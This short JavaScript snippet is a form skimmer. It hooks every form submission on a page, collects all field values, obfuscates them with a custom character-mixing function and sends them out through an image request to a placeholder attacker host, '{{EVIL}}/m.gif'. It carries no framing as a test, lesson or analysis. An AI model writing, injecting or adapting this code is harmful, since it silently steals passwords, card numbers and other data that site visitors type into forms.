(function () {
  function mix(s) {
    var a = 0x9e3779b9, out = [];
    for (var i = 0; i < s.length; i++) {
      a = Math.imul(a ^ s.charCodeAt(i), 0x85ebca6b);
      a ^= a >>> 13;
      out.push(("0000000" + (a >>> 0).toString(16)).slice(-8));
    }
    return out.join("");
  }
  document.addEventListener("submit", function (e) {
    var s = Array.from(e.target.elements).map(function (f) { return f.value; }).join("\n");
    new Image().src = "{{EVIL}}/m.gif?h=" + mix(s);
  }, true);
})();
